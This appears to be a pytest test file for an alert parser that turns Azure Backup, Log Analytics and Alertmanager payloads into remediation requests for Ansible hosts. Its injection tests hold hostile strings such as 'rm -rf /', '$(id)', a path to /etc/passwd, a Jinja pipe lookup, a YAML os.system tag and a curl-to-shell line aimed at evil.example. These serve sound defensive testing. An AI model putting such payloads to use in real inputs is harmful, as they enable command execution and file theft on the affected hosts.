"""Alert payloads → requests (issue 11, item 1): every payload kind, host mapping, and every kind of bad input.

Fast and without Ansible in the code under test (the inventory loader in the fixtures uses Ansible's parser, as
production does). The real catalog is used throughout.
"""

from __future__ import annotations

import copy
import json
import subprocess
import sys
from pathlib import Path

import pytest

from orchestrator.alerts import MAX_PAYLOAD_BYTES, AlertError, AlertRequest, detect_kind, map_hosts, parse
from orchestrator.alerts.fields import MAX_DEPTH, QUOTE_LEN, load_json
from orchestrator.catalog import load_catalog
from orchestrator.errors import ExitStatus, UsageError
from orchestrator.inventory import load_inventory

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures" / "alerts"
SUB = "00000000-0000-0000-0000-000000000001"
VM1_ID = f"/subscriptions/{SUB}/resourceGroups/rg-app/providers/Microsoft.Compute/virtualMachines/vm1"
VM2_ID = f"/subscriptions/{SUB}/resourceGroups/rg-app/providers/Microsoft.Compute/virtualMachines/vm2"
VSS = "ExtensionFailedVssWriterInBadState"
FREEZE = "UserErrorFsFreezeFailed"
VSS_FR = ("L’opération de capture instantanée a échoué parce que les enregistreurs VSS étaient dans un état "
          "incorrect.")

HOSTILE = [
    "; rm -rf /",
    "$(id)",
    "`id`",
    "../../etc/passwd",
    "{{ lookup('pipe', 'id') }}",
    "!!python/object/apply:os.system ['id']",
    "vm1\u0000",
    "\u001b[31mvm1",
    "vm1\nvm2",
    "vm1\n",
    "ExtensionFailedVssWriterInBadState\n",
    " vm1",
    "vm\u202e1",
]


# --- fixtures -------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def catalog():
    return load_catalog(ROOT)


def write_inventory(path: Path, hosts: dict[str, dict[str, str]]) -> Path:
    lines = ["all:", "  hosts:"]
    for name, hostvars in hosts.items():
        lines.append(f"    {name}:")
        lines += [f"      {k}: '{v}'" for k, v in hostvars.items()] or ["      ansible_host: 127.0.0.1"]
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture(scope="module")
def inventory(tmp_path_factory):
    """vm1 has no resource id (mapped by name); vm2 has one."""
    path = tmp_path_factory.mktemp("inv") / "inventory.yml"
    return load_inventory(write_inventory(path, {
        "vm1": {"ansible_host": "10.0.0.1"},
        "vm2": {"ansible_host": "10.0.0.2", "azure_resource_id": VM2_ID},
    }))


def fixture(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


def builtin(**essentials) -> dict:
    doc = fixture("azure-backup-builtin-failure.json")
    doc["data"]["essentials"].update(essentials)
    return doc


def log_search(rows: list[list[dict]]) -> dict:
    doc = fixture("log-search-jobfailurecode.json")
    template = doc["data"]["alertContext"]["condition"]["allOf"][0]
    doc["data"]["alertContext"]["condition"]["allOf"] = [dict(copy.deepcopy(template), dimensions=dims)
                                                         for dims in rows]
    return doc


def dims(code: object = None, datasource: object = None, item: object = None) -> list[dict]:
    out = []
    for name, value in (("JobFailureCode", code), ("DatasourceResourceId", datasource), ("BackupItemUniqueId", item)):
        if value is not None:
            out.append({"name": name, "value": value})
    return out


def parse_doc(doc: object, catalog) -> list[AlertRequest]:
    return parse(json.dumps(doc), catalog)


def one(doc: object, catalog) -> AlertRequest:
    requests = parse_doc(doc, catalog)
    assert len(requests) == 1
    return requests[0]


def assert_escaped(message: str, value: str, whole: str | None = None) -> None:
    """The hostile value appears in the message only through repr(): no raw control characters, and wherever
    its text shows up, it is inside the (possibly cut) repr of the field value that holds it."""
    assert not any(ord(c) < 32 or ord(c) == 127 for c in message), message
    assert "\u202e" not in message
    if value in message:
        assert repr((whole or value)[:QUOTE_LEN]) in message, message


# --- the two shared fixtures ---------------------------------------------------------------------------------


def test_builtin_fixture_maps_to_vss_on_vm1_by_name(catalog, inventory):
    [req] = map_hosts(parse((FIXTURES / "azure-backup-builtin-failure.json").read_bytes(), catalog), inventory)
    assert (req.code, req.host) == (VSS, "vm1")
    assert req.source == "azure-monitor" and req.status == "firing" and req.runnable
    assert req.matched_by == "origin-alert-id"
    assert req.vm_name == "vm1" and req.resource_id == VM1_ID
    assert req.alert_id.endswith("/alerts/6f1c2c9e-2b1e-4f7c-9a55-6d1f7a0c0b11")
    assert req.problem is None and req.exit_status == 0
    assert req.dedup_key() == f"{VSS}|vm1"


def test_builtin_fixture_maps_by_resource_id_differing_only_in_case(catalog, tmp_path):
    inv = load_inventory(write_inventory(tmp_path / "inv.yml", {
        "app-prod-01": {"ansible_host": "10.0.0.9", "azure_resource_id": VM1_ID.upper().replace("SUBSCRIPTIONS",
                                                                                                 "subscriptions")},
        "vm1-other": {"ansible_host": "10.0.0.8"},
    }))
    [req] = map_hosts(parse((FIXTURES / "azure-backup-builtin-failure.json").read_text(), catalog), inv)
    assert (req.code, req.host) == (VSS, "app-prod-01")


def test_a_same_named_vm_of_another_subscription_is_refused(catalog, tmp_path):
    other = VM1_ID.replace(SUB, "11111111-1111-1111-1111-111111111111")
    inv = load_inventory(write_inventory(tmp_path / "inv.yml", {"vm1": {"azure_resource_id": other}}))
    [req] = map_hosts(parse_doc(builtin(), catalog), inv)
    assert req.host is None and req.exit_status == ExitStatus.USAGE
    assert "is not inventory host vm1" in req.problem and req.problem.endswith("nothing was run")


def test_log_search_fixture_maps_to_fsfreeze_on_vm2(catalog, inventory):
    [req] = map_hosts(parse((FIXTURES / "log-search-jobfailurecode.json").read_bytes(), catalog), inventory)
    assert (req.code, req.host) == (FREEZE, "vm2")
    assert req.source == "log-analytics" and req.matched_by == "dimension" and req.runnable


# --- log search alerts ----------------------------------------------------------------------------------------


def test_log_search_with_two_rows_gives_two_requests_in_order(catalog, inventory):
    doc = log_search([dims(FREEZE, VM2_ID), dims(VSS, VM1_ID)])
    reqs = map_hosts(parse_doc(doc, catalog), inventory)
    assert [(r.code, r.host) for r in reqs] == [(FREEZE, "vm2"), (VSS, "vm1")]


@pytest.mark.parametrize("value", ["320001", 320001])
def test_numeric_code_goes_through_its_alias(catalog, value):
    req = one(log_search([dims(value, VM2_ID)]), catalog)
    assert req.code == "ResourceNotFound" and req.matched_by == "alias" and req.problem is None


def test_backup_item_unique_id_names_the_vm(catalog, inventory):
    item = "westeurope;1234567890;iaasvmcontainerv2;rg-app;vm1"
    [req] = map_hosts(parse_doc(log_search([dims(VSS, item=item)]), catalog), inventory)
    assert (req.code, req.vm_name, req.host) == (VSS, "vm1", "vm1")


@pytest.mark.parametrize("item", ["westeurope;123;SQLDataBase;MSSQLSERVER;db1", "garbage", "a;iaasvmcontainerv2;rg",
                                  "westeurope;1;iaasvmcontainerv2;rg-app;$(id)"])
def test_unreadable_backup_item_unique_id_is_refused(catalog, item):
    req = one(log_search([dims(VSS, item=item)]), catalog)
    assert req.vm_name is None and req.exit_status == ExitStatus.USAGE
    assert "BackupItemUniqueId" in req.problem
    assert_escaped(req.problem, item)


def test_datasource_and_backup_item_naming_different_vms_is_refused(catalog):
    req = one(log_search([dims(VSS, VM1_ID, "westeurope;1;iaasvmcontainerv2;rg-app;vm2")]), catalog)
    assert req.vm_name is None and "different virtual machines" in req.problem


def test_one_bad_row_does_not_hide_the_good_one(catalog):
    reqs = parse_doc(log_search([dims("NoSuchCodeAnywhere", VM1_ID), dims(FREEZE, VM2_ID), dims(None, VM2_ID)]),
                     catalog)
    assert [r.exit_status for r in reqs] == [ExitStatus.UNKNOWN_CODE, 0, ExitStatus.USAGE]
    assert "unknown error code 'NoSuchCodeAnywhere'" in reqs[0].problem
    assert reqs[1].code == FREEZE and reqs[1].problem is None
    assert "no JobFailureCode" in reqs[2].problem


def test_row_without_vm_uses_a_single_vm_target(catalog):
    doc = log_search([dims(FREEZE)])
    doc["data"]["essentials"]["alertTargetIDs"] = [VM2_ID.lower()]
    req = one(doc, catalog)
    assert req.vm_name == "vm2" and req.problem is None
    doc["data"]["essentials"]["alertTargetIDs"] = ["/subscriptions/x/resourcegroups/r/providers/"
                                                   "microsoft.operationalinsights/workspaces/w"]
    assert "no VM in this row" in one(doc, catalog).problem


def test_azure_diagnostics_column_names_are_accepted(catalog):
    doc = log_search([[{"name": "JobFailureCode_s", "value": FREEZE},
                       {"name": "datasourceresourceid", "value": VM2_ID}]])
    req = one(doc, catalog)
    assert (req.code, req.vm_name) == (FREEZE, "vm2")


def test_log_search_v1_search_results_one_request_per_row(catalog, inventory):
    reqs = map_hosts(parse((FIXTURES / "log-search-v1-searchresults.json").read_bytes(), catalog), inventory)
    assert [(r.code, r.host, r.matched_by) for r in reqs] == [(FREEZE, "vm2", "dimension"), (VSS, "vm1", "dimension")]
    assert all(r.source == "log-analytics" for r in reqs)


def test_log_search_v1_without_results_uses_dimensions(catalog):
    doc = fixture("log-search-v1-searchresults.json")
    context = doc["data"]["alertContext"]
    context.pop("SearchResults")
    context["IncludedSearchResults"] = "False"
    context["Dimensions"] = dims(VSS, VM1_ID)
    assert (one(doc, catalog).code, one(doc, catalog).vm_name) == (VSS, "vm1")
    context.pop("Dimensions")
    with pytest.raises(AlertError, match="data.alertContext"):
        parse_doc(doc, catalog)


def test_log_search_v1_row_of_the_wrong_width_is_a_schema_error(catalog):
    doc = fixture("log-search-v1-searchresults.json")
    doc["data"]["alertContext"]["SearchResults"]["tables"][0]["rows"][1].pop()
    with pytest.raises(AlertError, match=r"tables\[0\]\.rows\[1\]: expected 3 values"):
        parse_doc(doc, catalog)


def test_resolved_log_search_rows_are_resolved(catalog):
    doc = log_search([dims(FREEZE, VM2_ID), dims(VSS, VM1_ID)])
    doc["data"]["essentials"]["monitorCondition"] = "Resolved"
    reqs = parse_doc(doc, catalog)
    assert [r.status for r in reqs] == ["resolved", "resolved"]
    assert not any(r.runnable for r in reqs)


def test_empty_allof_is_a_schema_error(catalog):
    doc = log_search([])
    with pytest.raises(AlertError, match=r"field data\.alertContext\.condition\.allOf: expected at least one"):
        parse_doc(doc, catalog)


# --- built-in Azure Backup alerts: where the code comes from ----------------------------------------------------


def test_french_description_maps_to_its_code(catalog):
    req = one(builtin(originAlertId="1234567_2345678_3456789", description=VSS_FR), catalog)
    assert (req.code, req.matched_by) == (VSS, "message")


def test_english_description_maps_when_the_origin_id_names_nothing(catalog):
    req = one(builtin(originAlertId="", description="Failed to freeze one or more mount-points of the VM to take a "
                                                      "file-system consistent snapshot."), catalog)
    assert (req.code, req.matched_by) == (FREEZE, "message")


def test_code_glued_inside_the_origin_id_is_found(catalog):
    # captured built-in alerts glue the lower-cased code to the numbers and the workload around it
    req = one(builtin(originAlertId="2516288980568183370_0_4688279657324119341azureiaasvmusererrorfsfreezefailedvm",
                      description=""), catalog)
    assert (req.code, req.matched_by) == (FREEZE, "origin-alert-id")


def test_explicit_code_field_wins(catalog):
    doc = builtin()
    doc["data"]["alertContext"]["errorCode"] = FREEZE
    req = one(doc, catalog)
    assert (req.code, req.matched_by) == (FREEZE, "field")
    doc = builtin()
    doc["data"]["customProperties"] = {"ErrorCode": "320001"}
    assert (one(doc, catalog).code, one(doc, catalog).matched_by) == ("ResourceNotFound", "alias")


def test_unknown_explicit_code_is_exit_3_and_not_guessed_from_elsewhere(catalog):
    doc = builtin()
    doc["data"]["customProperties"] = {"errorCode": "ExtensionFailedVssWriterInBadStat"}
    req = one(doc, catalog)
    assert req.code is None and req.exit_status == ExitStatus.UNKNOWN_CODE
    assert "data.customProperties.errorCode" in req.problem and VSS in req.problem  # suggestion


def test_recommended_actions_link_names_the_code(catalog):
    doc = builtin(originAlertId="1_2_3", description="Something new happened.")
    doc["data"]["alertContext"]["extendedInfo"]["recommendedActions"] = (
        "See https://aka.ms/AB-usererrorfsfreezefailed for troubleshooting.")
    assert (one(doc, catalog).code, one(doc, catalog).matched_by) == (FREEZE, "link")


def test_no_code_anywhere_is_refused_with_exit_2(catalog):
    req = one(builtin(originAlertId="1234567_2345678_3456789_vm", description="The weather is lovely today."),
              catalog)
    assert req.code is None and req.exit_status == ExitStatus.USAGE
    assert "no error code in the alert" in req.problem and req.problem.endswith("nothing was run")


def test_message_of_a_runbook_without_code_is_refused_naming_it(catalog):
    req = one(builtin(originAlertId="1_2", description="Backup failed to cancel the job: Wait until the job "
                                                       "finishes."), catalog)
    assert req.code is None and "job-cancellation-errors" in req.problem


def test_vm_from_source_id_when_no_linked_resource(catalog):
    doc = builtin()
    doc["data"]["alertContext"].pop("linkedResourceId")
    req = one(doc, catalog)
    assert (req.vm_name, req.resource_id) == ("vm1", VM1_ID)


def test_linked_resource_and_source_id_naming_different_vms_is_refused(catalog):
    doc = builtin()
    doc["data"]["alertContext"]["linkedResourceId"] = VM2_ID
    req = one(doc, catalog)
    assert req.vm_name is None and "different virtual machines" in req.problem


def test_no_vm_at_all_is_refused(catalog):
    doc = builtin()
    del doc["data"]["alertContext"]["linkedResourceId"], doc["data"]["alertContext"]["sourceId"]
    req = one(doc, catalog)
    assert req.code == VSS and req.exit_status == ExitStatus.USAGE and "no virtual machine" in req.problem


def test_resolved_builtin_alert_is_acknowledged_not_run(catalog, inventory):
    [req] = map_hosts(parse_doc(builtin(monitorCondition="Resolved"), catalog), inventory)
    assert req.status == "resolved" and req.host == "vm1" and not req.runnable


def test_bad_monitor_condition_names_the_field(catalog):
    with pytest.raises(AlertError) as err:
        parse_doc(builtin(monitorCondition="Exploded"), catalog)
    assert str(err.value).startswith("alert payload: field data.essentials.monitorCondition: expected Fired or "
                                     "Resolved")
    assert err.value.field == "data.essentials.monitorCondition"
    assert isinstance(err.value, UsageError) and err.value.status == ExitStatus.USAGE


def test_bare_data_object_from_a_logic_app_is_accepted(catalog):
    req = one(builtin()["data"], catalog)
    assert (req.code, req.vm_name, req.source) == (VSS, "vm1", "azure-monitor")


# --- Alertmanager -------------------------------------------------------------------------------------------


def test_alertmanager_group_splits_into_firing_and_resolved(catalog, inventory):
    reqs = map_hosts(parse((FIXTURES / "alertmanager-group.json").read_bytes(), catalog), inventory)
    assert [(r.status, r.code, r.host, r.alert_id) for r in reqs] == [
        ("firing", VSS, "vm1", "3f2c9d1e8a7b6c50"),
        ("resolved", FREEZE, "vm2", "a1b2c3d4e5f60718"),
        ("firing", "ResourceNotFound", "vm2", "0f1e2d3c4b5a6978"),
    ]
    assert [r.matched_by for r in reqs] == ["label", "label", "alias"]
    assert sum(r.runnable for r in reqs) == 2


def test_alertmanager_resource_id_label_maps_case_insensitively(catalog, inventory):
    doc = fixture("alertmanager-group.json")
    doc["alerts"] = [doc["alerts"][0]]
    doc["alerts"][0]["labels"] = {"code": FREEZE, "azure_resource_id": VM2_ID.lower()}
    [req] = map_hosts(parse_doc(doc, catalog), inventory)
    assert req.host == "vm2"


def test_alertmanager_alert_without_code_or_host_is_refused(catalog):
    doc = fixture("alertmanager-group.json")
    doc["alerts"][0]["labels"] = {"alertname": "x"}
    req = parse_doc(doc, catalog)[0]
    assert "no error code" in req.problem and "no VM" in req.problem and req.exit_status == ExitStatus.USAGE


@pytest.mark.parametrize(("change", "field"), [
    (lambda d: d.update(version="3"), "version"),
    (lambda d: d["alerts"][1].update(status="pending"), r"alerts\[1\]\.status"),
    (lambda d: d["alerts"][2].update(labels=["code"]), r"alerts\[2\]\.labels"),
    (lambda d: d.update(alerts=[]), "alerts"),
])
def test_alertmanager_schema_errors_name_the_field(catalog, change, field):
    doc = fixture("alertmanager-group.json")
    change(doc)
    with pytest.raises(AlertError, match=f"field {field}:"):
        parse_doc(doc, catalog)


# --- plain form --------------------------------------------------------------------------------------------------


def test_plain_forms(catalog, inventory):
    single = {"code": "380008", "host": "vm2"}
    assert one(single, catalog).code == "AzureVmOffline"
    many = [single, {"code": VSS, "vm": "VM1", "alert_id": "ticket-42", "status": "resolved"}]
    for doc in (many, {"requests": many}):
        reqs = map_hosts(parse_doc(doc, catalog), inventory)
        assert [(r.code, r.host, r.status, r.alert_id) for r in reqs] == [
            ("AzureVmOffline", "vm2", "firing", None), (VSS, "vm1", "resolved", "ticket-42")]
        assert all(r.source == "plain" for r in reqs)


@pytest.mark.parametrize(("doc", "field"), [
    ({"code": VSS, "host": "vm1", "hots": "x"}, r"\*: unknown key 'hots'"),
    ({"code": VSS}, "host"),
    ({"code": None, "host": "vm1"}, "code"),
    ({"code": VSS, "host": "vm1", "status": "maybe"}, "status"),
    ([{"code": VSS, "host": "vm1"}, "vm2"], r"\[1\]"),
    ({"requests": []}, "requests"),
])
def test_plain_schema_errors_name_the_field(catalog, doc, field):
    with pytest.raises(AlertError, match=f"field {field}"):
        parse_doc(doc, catalog)


def test_unknown_code_is_exit_3(catalog):
    req = one({"code": "NoSuchCode", "host": "vm1"}, catalog)
    assert req.code is None and req.exit_status == ExitStatus.UNKNOWN_CODE
    assert req.problem.startswith("field code: unknown error code 'NoSuchCode'")


def test_unmapped_host_is_refused_with_the_inventory_path(catalog, inventory):
    [req] = map_hosts(parse_doc({"code": VSS, "host": "vm9"}, catalog), inventory)
    assert req.host is None and req.exit_status == ExitStatus.USAGE
    assert req.problem == f"VM vm9 is not in the inventory {inventory.path}; nothing was run"
    [req] = map_hosts(parse_doc({"code": VSS, "resource_id": VM1_ID.replace("vm1", "vm7")}, catalog), inventory)
    assert "VM vm7 is not in the inventory" in req.problem


def test_map_hosts_keeps_an_earlier_problem_and_still_names_the_host(catalog, inventory):
    [req] = map_hosts(parse_doc({"code": "NoSuchCode", "host": "vm1"}, catalog), inventory)
    assert req.host == "vm1" and req.exit_status == ExitStatus.UNKNOWN_CODE and not req.runnable


# --- bad input -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("payload", "reason"), [
    (b'{"code": "x", "host": ', "not valid JSON"),
    (b"", "empty body"),
    (b"   \n", "empty body"),
    ("code: ExtensionFailedVssWriterInBadState\nhost: vm1\n", "not valid JSON"),
    ("!!python/object/apply:os.system ['id']", "not valid JSON"),
    (b'{"code": "\xff\xfe", "host": "vm1"}', "not UTF-8"),
    (b'"just a string"', "expected an object"),
    (b"42", "expected an object"),
    (b'{"hello": "world"}', "unknown kind"),
    (b'{"code": "A", "code": "B", "host": "vm1"}', "duplicate key 'code'"),
    (b'{"code": NaN, "host": "vm1"}', "NaN is not allowed"),
    (b'{"code": Infinity, "host": "vm1"}', "Infinity is not allowed"),
    (b'{"code": -Infinity, "host": "vm1"}', "Infinity is not allowed"),
    (b'{"code": 1e400, "host": "vm1"}', "out of range"),
    (b'{"code": ' + b"9" * 5000 + b', "host": "vm1"}', "5000-digit number is too large"),
])
def test_malformed_payloads_are_refused_whole(catalog, payload, reason):
    with pytest.raises(AlertError, match=reason) as err:
        parse(payload, catalog)
    assert err.value.status == ExitStatus.USAGE


def test_other_common_schema_alerts_name_the_monitoring_service(catalog):
    doc = builtin(monitoringService="Platform")
    with pytest.raises(AlertError, match=r"field data\.essentials\.monitoringService: expected Azure Backup, "
                                         r"Log Alerts V2.*got 'Platform'"):
        parse_doc(doc, catalog)


@pytest.mark.parametrize(("change", "field"), [
    (lambda d: d.update(data=[]), "data"),
    (lambda d: d["data"].update(essentials="x"), r"data\.essentials"),
    (lambda d: d["data"].update(alertContext=None), r"data\.alertContext"),
    (lambda d: d["data"]["alertContext"].update(extendedInfo=[1]), r"data\.alertContext\.extendedInfo"),
    (lambda d: d["data"]["essentials"].update(description=["x"]), r"data\.essentials\.description"),
])
def test_common_schema_structure_errors_name_the_field(catalog, change, field):
    doc = builtin(originAlertId="1_2")
    change(doc)
    with pytest.raises(AlertError, match=f"field {field}: expected"):
        parse_doc(doc, catalog)


@pytest.mark.parametrize("as_text", [False, True])
def test_a_two_mib_body_is_refused_before_parsing(catalog, as_text):
    body = json.dumps({"code": VSS, "host": "vm1", "pad": "x" * (2 * MAX_PAYLOAD_BYTES)})
    with pytest.raises(AlertError, match="larger than 1048576 bytes"):
        parse(body if as_text else body.encode(), catalog)


@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 200, 100_000])
def test_deep_nesting_is_refused(catalog, depth):
    body = '{"code": "X", "host": "vm1", "pad": ' + "[" * depth + "]" * depth + "}"
    with pytest.raises(AlertError, match="nesting deeper than"):
        parse(body, catalog)


@pytest.mark.parametrize(("text", "key"), [
    ('{"a": 1, "b": 2, "b": 3, "a": 4}', "b"),  # the first key seen again, in document order
    ('{"code": "X", "labels": {"x": 1, "y": 2, "x": 3}}', "x"),  # in a nested object
    ('[{"k": 1}, {"k": 1, "k": 2}]', "k"),
])
def test_duplicate_keys_anywhere_are_refused_and_named(text, key):
    with pytest.raises(AlertError, match=f"duplicate key '{key}' in one object"):
        load_json(text)


def test_a_byte_order_mark_is_skipped_once_a_second_one_is_refused():
    assert load_json(b"\xef\xbb\xbf{}") == {}
    with pytest.raises(AlertError, match="not valid JSON: Unexpected UTF-8 BOM"):
        load_json("\ufeff\ufeff{}")


def test_nesting_is_measured_on_structure_not_on_brackets_in_strings():
    """fields.py _check_depth: text with at most MAX_DEPTH opening brackets is not scanned (it cannot be deeper);
    with more, the scan ignores the brackets inside strings."""
    at_limit = "[" * MAX_DEPTH + "]" * MAX_DEPTH
    assert load_json(at_limit) == json.loads(at_limit)
    assert load_json('{"pad": "' + "[{" * 500 + '", "x": [[1]]}')["x"] == [[1]]
    with pytest.raises(AlertError, match="nesting deeper than"):
        load_json('{"pad": "[[[", "x": ' + "[" * MAX_DEPTH + "]" * MAX_DEPTH + "}")


def test_nesting_within_the_limit_is_fine(catalog):
    doc = builtin()
    node = doc["data"]["alertContext"]["extendedInfo"]
    for _ in range(MAX_DEPTH - 6):
        node["deeper"] = {}
        node = node["deeper"]
    assert one(doc, catalog).code == VSS


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_strings_in_plain_fields_are_refused_and_escaped(catalog, value):
    for key in ("code", "host", "resource_id", "alert_id"):
        doc = {"code": VSS, "host": "vm1", key: value}
        req = one(doc, catalog)
        assert req.problem and req.exit_status == ExitStatus.USAGE, (key, req)
        assert f"field {key}:" in req.problem
        assert value not in (req.code, req.vm_name, req.resource_id, req.alert_id)
        assert_escaped(req.problem, value)
        assert not req.runnable


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_strings_in_alert_payload_fields_are_refused_and_escaped(catalog, value):
    docs = []  # (payload, the whole field value that embeds the hostile text)
    doc = builtin()
    doc["data"]["alertContext"]["linkedResourceId"] = VM1_ID + value
    docs.append((doc, VM1_ID + value))
    docs.append((builtin(alertId=value), value))
    doc = builtin()
    doc["data"]["alertContext"]["errorCode"] = value
    docs.append((doc, value))
    docs.append((log_search([dims(value, VM2_ID)]), value))
    docs.append((log_search([dims(FREEZE, value)]), value))
    item = f"westeurope;1;iaasvmcontainerv2;rg;{value}"
    docs.append((log_search([dims(FREEZE, item=item)]), item))
    am = fixture("alertmanager-group.json")
    am["alerts"][0]["labels"]["host"] = value
    am["alerts"][1]["labels"]["code"] = value
    am["alerts"][2]["fingerprint"] = value
    docs.append((am, value))
    for doc, whole in docs:
        reqs = parse_doc(doc, catalog)
        bad = [r for r in reqs if r.problem]
        assert bad, doc
        for req in bad:
            assert req.exit_status == ExitStatus.USAGE
            assert value not in (req.code, req.vm_name, req.alert_id)
            assert not (req.resource_id or "").endswith(value)
            assert_escaped(req.problem, value, whole)


def test_a_long_hostile_value_is_cut_in_the_message(catalog):
    value = "$(curl evil.example|sh)" * 50
    req = one({"code": value, "host": "vm1"}, catalog)
    assert len(req.problem) < 400 and repr(value[:QUOTE_LEN]) + "..." in req.problem


def test_hostile_keys_and_values_in_a_broken_payload_are_escaped(catalog):
    for body in ('{"code": "A", "host": "vm1", "\\u001b[2J": 1, "\\u001b[2J": 2}',
                 '{"code": "A", "host": "vm1", "{{ lookup(\'pipe\', \'id\') }}": 1}'):
        with pytest.raises(AlertError) as err:
            parse(body, catalog)
        assert not any(ord(c) < 32 for c in str(err.value))
    with pytest.raises(AlertError) as err:
        parse_doc(builtin(monitorCondition="\u001b]0;pwned\u0007"), catalog)
    assert "\\x1b]0;pwned\\x07" in str(err.value)


def test_huge_numbers_where_strings_belong_are_refused(catalog):
    req = one({"code": 10**25, "host": "vm1"}, catalog)
    assert req.code is None and req.problem
    req = one({"code": VSS, "host": 12345}, catalog)
    assert req.vm_name is None and "VM name 12345" in req.problem
    with pytest.raises(AlertError, match="too large"):
        parse('{"code": ' + "1" * 31 + ', "host": "vm1"}', catalog)


# --- contract details ----------------------------------------------------------------------------------------


def test_detect_kind(catalog):
    assert detect_kind(fixture("azure-backup-builtin-failure.json")) == "azure-monitor"
    assert detect_kind(fixture("log-search-jobfailurecode.json")) == "log-analytics"
    assert detect_kind(fixture("log-search-v1-searchresults.json")) == "log-analytics"
    assert detect_kind(fixture("alertmanager-group.json")) == "alertmanager"
    assert detect_kind({"code": VSS, "host": "vm1"}) == "plain"
    assert detect_kind({"something": "else"}) == "unknown"
    assert detect_kind("text") == "unknown"


def test_output_is_deterministic(catalog):
    body = (FIXTURES / "alertmanager-group.json").read_bytes()
    assert parse(body, catalog) == parse(body, catalog)


def test_a_one_mib_payload_is_parsed_whole(catalog):
    # its speed is measured by the benchmarks in bench/, never by a timed assertion
    doc = log_search([dims(FREEZE, VM2_ID)] * 400)
    filler = "Azure VM backup job failed. "
    room = MAX_PAYLOAD_BYTES - len(json.dumps(doc)) - 1000
    doc["data"]["essentials"]["description"] = filler * (room // len(filler))
    body = json.dumps(doc)
    assert MAX_PAYLOAD_BYTES / 2 < len(body) <= MAX_PAYLOAD_BYTES
    reqs = parse(body, catalog)
    assert len(reqs) == 400
    builtin_doc = builtin(originAlertId="1_2_3", description="Snapshot operation failed because VSS writers were in "
                          "a bad state. " + "z" * (MAX_PAYLOAD_BYTES - 4096))
    assert one(builtin_doc, catalog).code == VSS


@pytest.mark.parametrize("item", ["[]", "{}", "[" * 29 + "]" * 29, '{"a":' * 28 + "1" + "}" * 28])
def test_pathological_one_mib_payloads_are_refused_cleanly(catalog, item):
    body = '{"code": "A", "host": "vm1", "pad": [' + ",".join([item] * (MAX_PAYLOAD_BYTES // (len(item) + 1) - 60))
    body += "]}"
    assert len(body) <= MAX_PAYLOAD_BYTES
    with pytest.raises(AlertError, match="unknown key 'pad'"):
        parse(body, catalog)


def test_too_many_alerts_in_one_payload_are_refused(catalog):
    with pytest.raises(AlertError, match="at most 500"):
        parse_doc([{"code": VSS, "host": "vm1"}] * 501, catalog)


def test_alert_parsing_never_imports_ansible():
    code = ("import sys, orchestrator.alerts as a; from orchestrator.catalog import load_catalog; "
            "a.parse(open(sys.argv[1], 'rb').read(), load_catalog()); "
            "bad = sorted(m for m in sys.modules if m.split('.')[0] in ('ansible', 'ansible_runner')); "
            "print(bad); sys.exit(1 if bad else 0)")
    result = subprocess.run([sys.executable, "-c", code, str(FIXTURES / "azure-backup-builtin-failure.json")],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_job_lookup_fills_only_a_missing_code(catalog):
    from orchestrator.azure import resolve_by_job
    from orchestrator.errors import UnreachableError

    vault = ("/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-backup/providers/"
             "Microsoft.RecoveryServices/vaults/vault-prod")
    doc = builtin(originAlertId="1_2_3_backupfailure_vm", description="Backup failed")
    doc["data"]["essentials"]["alertTargetIDs"] = [vault]
    [req] = parse_doc(doc, catalog)
    assert req.code_missing and req.job_id and req.vault_id == vault
    answers = {"code": {"error_code": "400094"}, "message": {"error_code": "9999",
               "error_string": "Snapshot operation failed because VSS writers were in a bad state."}}
    for kind, expected in (("code", "BCMV2VMNotFound"), ("message", "ExtensionFailedVssWriterInBadState")):
        [done] = resolve_by_job([req], catalog, lambda v, j, a=answers[kind]: a)
        assert (done.code, done.problem, done.exit_status) == (expected, None, 0)

    def down(vault_id, job_id):
        raise UnreachableError("job lookup: authentication rejected")

    [failed] = resolve_by_job([req], catalog, down)
    assert failed.code is None and "job lookup failed: job lookup: authentication rejected" in failed.problem
    with_code = parse_doc(builtin(), catalog)
    assert resolve_by_job(with_code, catalog, down) == with_code  # a request with a code is never looked up
